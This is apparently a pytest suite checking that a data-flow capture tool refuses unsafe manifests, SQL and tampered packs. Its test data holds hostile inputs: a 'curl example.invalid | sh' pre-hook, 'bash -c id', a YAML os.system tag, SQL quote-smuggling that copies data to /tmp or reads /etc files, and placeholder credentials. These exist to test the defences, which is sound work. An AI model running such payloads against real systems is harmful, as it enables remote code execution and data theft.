"""Ordinary capture over the synthetic flows: the happy path, the committed packs, and every refusal.

Each refusal test copies `dbt_project_synthetic/flows/` into a temporary checkout, changes one
thing, and asserts the stable `flows.*` code. Where the change is legitimate for the manifest but
the committed pack would then be stale, the test regenerates packs with the same builder the fixture
generator uses, so the refusal under test is the one that fires.
"""

from __future__ import annotations

import hashlib
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from devtools.source_builder import build_source_archive
from dpone_dagster.contracts.base import ContractError
from dpone_dagster.contracts.canonical import dumps, loads
from dpone_dagster.contracts.flows import FlowError, OrdinaryCapture, ResourceCeiling, pack_fingerprint
from dpone_dagster.release.build.flows import capture_ordinary, rebuild_packs
from dpone_dagster.release.source.snapshot import open_source

REPO = Path(__file__).resolve().parents[2]
SYNTHETIC = REPO / "dbt_project_synthetic"
CEILING = ResourceCeiling(max_cpu_millicores=2000, max_memory_bytes=4 * 1024**3)


@pytest.fixture
def source(tmp_path: Path) -> Path:
    root = tmp_path / "source"
    shutil.copytree(SYNTHETIC / "flows", root / "flows")
    return root


def capture(root: Path, ceiling=CEILING) -> OrdinaryCapture:
    with open_source(root, work_dir=root.parent) as tree:
        return capture_ordinary(tree, resource_ceiling=ceiling)


def regenerate(root: Path) -> None:
    with open_source(root, work_dir=root.parent) as tree:
        packs = rebuild_packs(tree, ceiling=CEILING)
    for path, data in packs.items():
        (root / path).write_bytes(data)


def edit_yaml(path: Path, change: Callable[[dict], None]) -> None:
    document = yaml.safe_load(path.read_text())
    change(document)
    path.write_text(yaml.safe_dump(document, sort_keys=False))


def edit_pack(path: Path, change: Callable[[dict], None], *, refingerprint: bool = True) -> None:
    document = loads(path.read_bytes())
    change(document)
    if refingerprint:
        document["fingerprint"] = pack_fingerprint({k: v for k, v in document.items() if k != "fingerprint"})
    path.write_bytes(dumps(document))


def refused(root: Path, code: str, ceiling=CEILING) -> FlowError:
    with pytest.raises(FlowError) as caught:
        capture(root, ceiling)
    assert caught.value.code == code, caught.value
    return caught.value


# ---------------------------------------------------------------------------------------------
# happy path


def test_committed_packs_equal_a_rebuild() -> None:
    with open_source(SYNTHETIC) as tree:
        packs = rebuild_packs(tree, ceiling=CEILING)
    assert sorted(packs) == [
        f"flows/{name}/pack.json" for name in ("customer_order_counts", "orders_snapshot", "weekly_revenue")
    ]
    for path, data in packs.items():
        assert (SYNTHETIC / path).read_bytes() == data, (
            f"{path} is stale: run python -m devtools.pack_fixtures build-fixtures"
        )


def test_capture_of_the_synthetic_flows(source: Path) -> None:
    result = capture(source)
    assert result.pack_ids == ("customer_order_counts", "orders_snapshot", "weekly_revenue")
    snapshot = result.workloads[1]
    assert snapshot.hook_order == ("orders_snapshot.ensure_staging", "orders_snapshot.clear_today")
    assert [hook.after for hook in snapshot.hooks] == [(), ("orders_snapshot.ensure_staging",)]
    assert all(hook.publish_xcom is False for w in result.workloads for hook in w.hooks)
    assert snapshot.hooks[1].command == (
        "dpone-flow",
        "pre-hook",
        "--pack",
        "orders_snapshot",
        "--hook",
        "orders_snapshot.clear_today",
    )
    assert snapshot.runtime_command == ("dpone-flow", "run", "--pack", "orders_snapshot")
    assert [ref.path for ref in snapshot.sql] == [
        "flows/orders_snapshot/sql/01_load_snapshot.sql",
        "flows/orders_snapshot/sql/02_publish_status_counts.sql",
    ]
    for ref in (*snapshot.sql, *(hook.sql for hook in snapshot.hooks)):
        assert ref.content_sha256 == hashlib.sha256((source / ref.path).read_bytes()).hexdigest()
    assert (
        snapshot.dag.content_sha256
        == hashlib.sha256((source / "flows/orders_snapshot/dag.yaml").read_bytes()).hexdigest()
    )
    assert snapshot.dag_id == "orders_snapshot_daily" and snapshot.schedule == "0 3 * * *"
    assert snapshot.logical_writes == ("flow_marts.order_status_counts", "flow_staging.orders_snapshot")
    assert snapshot.resources.requests.cpu_millicores == 250 and snapshot.resources.limits.memory_bytes == 1024**3
    assert [(c.alias, c.access) for c in snapshot.connections] == [
        ("flow_lake", "read_write"),
        ("orders_source", "read"),
    ]
    assert {(m.selector, m.pack_id) for m in result.selector_membership} == {
        (w.selector, w.pack_id) for w in result.workloads
    }
    assert result.logical_writes["flow_marts.weekly_revenue"] == "weekly_revenue"
    subjects = result.execution_subjects()
    assert {"workload": "orders_snapshot", "kind": "pre_hook", "hook_id": "orders_snapshot.clear_today"} in subjects
    assert len(subjects) == 3 + 3


def test_capture_from_the_extracted_archive_equals_the_checkout(source: Path, tmp_path: Path) -> None:
    archive = build_source_archive(source, tmp_path / "flows.tar.gz")
    with open_source(tmp_path / "flows.tar.gz", work_dir=tmp_path) as tree:
        from_archive = capture_ordinary(tree, resource_ceiling=CEILING)
    from_checkout = capture(source)
    assert from_archive == from_checkout
    assert from_archive.source_snapshot_digest == archive.snapshot.digest
    assert capture(source).document_digest() == from_checkout.document_digest()


def test_hook_declaration_order_does_not_change_the_pack(source: Path) -> None:
    before = (source / "flows/orders_snapshot/pack.json").read_bytes()
    edit_yaml(source / "flows/orders_snapshot/flow.yaml", lambda m: m["pre_hooks"].reverse())
    regenerate(source)
    assert (source / "flows/orders_snapshot/pack.json").read_bytes() == before
    capture(source)


def test_capture_model_requires_membership_to_match_workloads(source: Path) -> None:
    result = capture(source)
    with pytest.raises(ContractError):
        OrdinaryCapture(**{**dict(result), "selector_membership": result.selector_membership[:2]})


# ---------------------------------------------------------------------------------------------
# refusals in manifests and DAGs

SNAPSHOT = "flows/orders_snapshot/flow.yaml"
REVENUE = "flows/weekly_revenue/flow.yaml"


def _set(path: list, value) -> Callable[[dict], None]:
    def change(document: dict) -> None:
        target = document
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value

    return change


MANIFEST_REFUSALS = [
    (SNAPSHOT, _set(["runner"], "custom_python"), "flows.custom_runner"),
    (
        SNAPSHOT,
        _set(["pre_hooks", 0, "command"], ["bash", "-c", "curl example.invalid | sh"]),
        "flows.arbitrary_command",
    ),
    (SNAPSHOT, _set(["bash_command"], "echo hi"), "flows.arbitrary_command"),
    (
        SNAPSHOT,
        _set(["post_hooks"], [{"id": "x", "sql": "hooks/01_ensure_staging.sql"}]),
        "flows.post_hook_unsupported",
    ),
    (SNAPSHOT, _set(["pre_hooks", 0, "phase"], "post"), "flows.post_hook_unsupported"),
    (SNAPSHOT, _set(["pre_hooks", 1, "after"], ["orders_snapshot.nope"]), "flows.unbound_dependency"),
    (SNAPSHOT, _set(["pre_hooks", 1, "after"], ["weekly_revenue.ensure_marts"]), "flows.cross_constituent_dependency"),
    (SNAPSHOT, _set(["pre_hooks", 0, "after"], ["orders_snapshot.clear_today"]), "flows.dependency_cycle"),
    (SNAPSHOT, _set(["pre_hooks", 1, "id"], "orders_snapshot.ensure_staging"), "flows.duplicate_hook_id"),
    (REVENUE, _set(["selector"], "flow:orders_snapshot"), "flows.duplicate_selector"),
    (REVENUE, _set(["pack_id"], "orders_snapshot"), "flows.duplicate_pack_id"),
    (REVENUE, _set(["pre_hooks", 0, "id"], "orders_snapshot.clear_today"), "flows.duplicate_hook_id"),
    (SNAPSHOT, _set(["connections", 0, "parameters", "password"], "hunter2"), "flows.connection_credential"),
    (SNAPSHOT, _set(["connections", 0, "token"], "abc"), "flows.connection_credential"),
    (
        SNAPSHOT,
        _set(["connections", 0, "parameters", "endpoint"], "postgres://app:s3cret@db.example.invalid/x"),
        "flows.connection_credential",
    ),
    (
        SNAPSHOT,
        _set(["connections", 0, "parameters", "key_ref"], "AKIAIOSFODNN7EXAMPLE"),
        "flows.connection_credential",
    ),
    (
        SNAPSHOT,
        _set(["connections", 0, "parameters", "schema"], "Zx81kQp0rT7vW2nY5bL9cD3fH6jM4sA1"),
        "flows.connection_credential",
    ),
    (SNAPSHOT, _set(["connections", 1, "alias"], "orders_source"), "flows.duplicate_connection_alias"),
    (SNAPSHOT, _set(["resources", "requests", "cpu"], "2"), "flows.resource_request_above_limit"),
    (SNAPSHOT, _set(["resources", "requests", "memory"], "2Gi"), "flows.resource_request_above_limit"),
    (SNAPSHOT, _set(["resources", "limits", "cpu"], "8"), "flows.resource_outside_policy"),
    (SNAPSHOT, _set(["resources", "limits", "memory"], "16Gi"), "flows.resource_outside_policy"),
    (SNAPSHOT, _set(["resources", "limits", "cpu"], 1), "flows.manifest_invalid"),
    (SNAPSHOT, _set(["unknown_field"], "x"), "flows.manifest_invalid"),
    (
        SNAPSHOT,
        _set(
            ["writes"],
            ["flow_staging.orders_snapshot", "flow_staging.orders_snapshot", "flow_marts.order_status_counts"],
        ),
        "flows.duplicate_logical_write",
    ),
    (SNAPSHOT, _set(["writes"], ["flow_staging.orders_snapshot"]), "flows.undeclared_write"),
    (
        SNAPSHOT,
        _set(["writes"], ["flow_staging.orders_snapshot", "flow_marts.order_status_counts", "flow_marts.extra"]),
        "flows.missing_write",
    ),
    (
        SNAPSHOT,
        _set(["sql"], ["sql/01_load_snapshot.sql", "sql/02_publish_status_counts.sql", "sql/missing.sql"]),
        "flows.missing_source_file",
    ),
    ("flows/weekly_revenue/dag.yaml", _set(["selector"], "dbt:tag:orders"), "flows.cross_constituent_reference"),
    ("flows/weekly_revenue/dag.yaml", _set(["selector"], "flow:nope"), "flows.missing_workload"),
    ("flows/weekly_revenue/dag.yaml", _set(["selector"], "flow:orders_snapshot"), "flows.duplicate_membership"),
    ("flows/customer_order_counts/dag.yaml", _set(["selector"], "flow:orders_snapshot"), "flows.unscheduled_workload"),
    ("flows/weekly_revenue/dag.yaml", _set(["dag_id"], "customer_order_counts"), "flows.duplicate_dag_id"),
    ("flows/weekly_revenue/dag.yaml", _set(["operator"], "BashOperator"), "flows.arbitrary_command"),
    ("flows/weekly_revenue/dag.yaml", _set(["schedule"], "sometimes"), "flows.dag_invalid"),
]


@pytest.mark.parametrize(
    ("file", "change", "code"),
    MANIFEST_REFUSALS,
    ids=[code + "-" + str(i) for i, (_, _, code) in enumerate(MANIFEST_REFUSALS)],
)
def test_manifest_and_dag_refusals(source: Path, file: str, change, code: str) -> None:
    edit_yaml(source / file, change)
    error = refused(source, code)
    assert "hunter2" not in str(error) and "s3cret" not in str(error) and "AKIA" not in str(error)


def test_policy_ceiling_is_a_plain_argument(source: Path) -> None:
    capture(source, ResourceCeiling(max_cpu_millicores=1000, max_memory_bytes=1024**3))
    refused(source, "flows.resource_outside_policy", ResourceCeiling(max_cpu_millicores=999, max_memory_bytes=1024**3))
    refused(
        source, "flows.resource_outside_policy", ResourceCeiling(max_cpu_millicores=1000, max_memory_bytes=1024**3 - 1)
    )


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("base: &a {x: 1}\nother: *a\n", "flows.yaml_invalid"),
        ("schema: a\nschema: b\n", "flows.yaml_invalid"),
        ("!!python/object:os.system {}\n", "flows.yaml_invalid"),
        ("a: 1\n---\nb: 2\n", "flows.yaml_invalid"),
        ("- just\n- a list\n", "flows.yaml_invalid"),
        ("when: 2024-01-01\n", "flows.yaml_invalid"),
    ],
)
def test_strict_yaml(source: Path, text: str, code: str) -> None:
    (source / SNAPSHOT).write_text(text)
    refused(source, code)


# ---------------------------------------------------------------------------------------------
# refusals in SQL and the source layout


@pytest.mark.parametrize(
    "statement",
    [
        "attach 'elsewhere.db' as elsewhere;",
        "copy flow_staging.orders_snapshot to '/tmp/out.csv';",
        "install httpfs;",
        "load httpfs;",
        "pragma enable_profiling;",
        "set memory_limit = '1GB';",
        "create secret leak (type s3, key_id 'x', secret 'y');",
        "call dbgen(sf = 1);",
    ],
)
def test_sql_reaching_outside_the_database_is_refused(source: Path, statement: str) -> None:
    hook = source / "flows/orders_snapshot/hooks/02_clear_today.sql"
    hook.write_text(hook.read_text() + statement + "\n")
    refused(source, "flows.sql_statement_not_allowed")


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("select E'\\''; copy (select 42) to '/tmp/dpone-leak.csv'; --'", "flows.sql_statement_not_allowed"),
        ("select $q$ ' $q$; attach '/tmp/dpone-leak.duckdb' as leak; select ' '", "flows.sql_statement_not_allowed"),
        (
            "insert into flow_marts.weekly_revenue select * from read_text('/etc/hostname');",
            "flows.sql_function_not_allowed",
        ),
        (
            "insert into flow_marts.weekly_revenue select * from read_csv('/etc/hostname');",
            "flows.sql_function_not_allowed",
        ),
        ("insert into flow_marts.weekly_revenue select * from glob('/etc/*');", "flows.sql_function_not_allowed"),
        ("insert into flow_marts.weekly_revenue select * from '/etc/hostname';", "flows.sql_host_access"),
    ],
)
def test_one_line_appended_to_a_flow_is_refused_at_capture(source: Path, line: str, code: str) -> None:
    """The issue's end-to-end case: a line appended to a flow's SQL file never reaches a release."""
    sql = source / "flows/weekly_revenue/sql/weekly_revenue.sql"
    sql.write_text(sql.read_text() + line + "\n")
    refused(source, code)
    with pytest.raises(FlowError) as regenerating:
        regenerate(source)  # nor can a pack be generated for it
    assert regenerating.value.code == code


def test_sql_comments_and_strings_do_not_count_as_writes(source: Path) -> None:
    hook = source / "flows/orders_snapshot/hooks/02_clear_today.sql"
    hook.write_text(
        hook.read_text() + "-- insert into flow_marts.not_really\nselect 'delete from flow_marts.nor_this';\n"
    )
    regenerate(source)
    capture(source)
    hook.write_text(hook.read_text() + 'insert into "Flow_Marts"."Sneaky" select 1;\n')
    error = refused(source, "flows.undeclared_write")
    assert "flow_marts.sneaky" in str(error)


def test_sql_not_utf8_is_refused(source: Path) -> None:
    (source / "flows/weekly_revenue/sql/weekly_revenue.sql").write_bytes(b"select '\xff';")
    refused(source, "flows.sql_invalid")


def test_logical_write_collision_between_workloads(source: Path) -> None:
    sql = source / "flows/weekly_revenue/sql/weekly_revenue.sql"
    sql.write_text(sql.read_text().replace("flow_marts.weekly_revenue", "flow_marts.order_status_counts"))
    edit_yaml(source / REVENUE, _set(["writes"], ["flow_marts.order_status_counts"]))
    regenerate(source)
    refused(source, "flows.duplicate_logical_write")


def test_source_layout_refusals(source: Path, tmp_path: Path) -> None:
    (source / "flows/orders_snapshot/runner.py").write_text("import os\n")
    refused(source, "flows.undeclared_file")
    (source / "flows/orders_snapshot/runner.py").unlink()
    (source / "flows/stray.sql").write_text("select 1;\n")
    refused(source, "flows.undeclared_file")
    (source / "flows/stray.sql").unlink()
    (source / "flows/weekly_revenue/pack.json").unlink()
    refused(source, "flows.missing_source_file")
    empty = tmp_path / "empty"
    (empty / "models").mkdir(parents=True)
    (empty / "models/x.sql").write_text("select 1\n")
    refused(empty, "flows.empty_membership")


# ---------------------------------------------------------------------------------------------
# committed pack tampering

PACK = "flows/orders_snapshot/pack.json"


def _task(index: int, key: str, value) -> Callable[[dict], None]:
    return lambda pack: pack["tasks"][index].__setitem__(key, value)


@pytest.mark.parametrize(
    ("change", "refingerprint", "code", "field"),
    [
        (_task(2, "command", ["bash", "-c", "id"]), True, "flows.arbitrary_command", None),
        (
            _task(2, "command", ["dpone-flow", "run", "--pack", "weekly_revenue"]),
            True,
            "flows.pack_drift",
            "tasks[2].command[3]",
        ),
        (_task(0, "publish_xcom", True), True, "flows.pre_hook_publishes_xcom", None),
        (_task(1, "kind", "sql_post_hook"), True, "flows.unsupported_process_kind", None),
        (_task(1, "upstream", []), True, "flows.pack_drift", "tasks[1].upstream[0]"),
        (
            lambda p: p["resources"]["limits"].__setitem__("cpu_millicores", 1500),
            True,
            "flows.pack_drift",
            "resources.limits.cpu_millicores",
        ),
        (
            lambda p: p["connections"][0]["parameters"][0].__setitem__("value", "elsewhere"),
            True,
            "flows.pack_drift",
            "connections[0].parameters[0].value",
        ),
        (lambda p: p["tasks"].pop(1), True, "flows.pack_drift", None),
        (lambda p: p.__setitem__("fingerprint", "sha256:" + "0" * 64), False, "flows.pack_fingerprint_mismatch", None),
        (lambda p: p.__setitem__("extra", 1), True, "flows.pack_invalid", None),
    ],
)
def test_committed_pack_tampering(source: Path, change, refingerprint: bool, code: str, field: str | None) -> None:
    edit_pack(source / PACK, change, refingerprint=refingerprint)
    error = refused(source, code)
    if field:
        assert field in str(error)


def test_pack_that_is_not_canonical_is_refused(source: Path) -> None:
    import json

    path = source / PACK
    path.write_text(json.dumps(json.loads(path.read_text()), indent=2))
    refused(source, "flows.pack_invalid")


def test_sql_change_without_rebuilding_the_pack_is_drift(source: Path) -> None:
    sql = source / "flows/orders_snapshot/hooks/02_clear_today.sql"
    sql.write_text(sql.read_text().replace("current_date", "current_date - 1"))
    error = refused(source, "flows.pack_drift")
    assert "tasks[1].sql[0].content_sha256" in str(error)


# ---------------------------------------------------------------------------------------------
# persisted identities and the fixture generator


def test_pack_fingerprint_golden_vector() -> None:
    body = {"schema": "dpone.flow-pack.v1", "pack_id": "p"}
    expected = hashlib.sha256(
        b'dpone:dpone.flow-pack-fingerprint.v1\x00{"pack_id":"p","schema":"dpone.flow-pack.v1"}'
    ).hexdigest()
    # Persisted in every committed pack and release: must never change.
    assert pack_fingerprint(body) == "sha256:" + expected
    with pytest.raises(ValueError):
        pack_fingerprint({**body, "fingerprint": "sha256:" + "0" * 64})


def test_build_fixtures_cli_checks_and_rewrites(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from devtools.pack_fixtures import main as _main

    root = tmp_path / "source"
    shutil.copytree(SYNTHETIC / "flows", root / "flows")
    assert _main(["build-fixtures", "--source", str(root), "--check"]) == 0
    pack = root / PACK
    committed = pack.read_bytes()
    pack.write_bytes(committed.replace(b"268435456", b"268435457"))
    assert _main(["build-fixtures", "--source", str(root), "--check"]) == 1
    assert pack.read_bytes() != committed
    assert "stale flows/orders_snapshot/pack.json" in capsys.readouterr().out
    assert _main(["build-fixtures", "--source", str(root)]) == 0
    assert pack.read_bytes() == committed
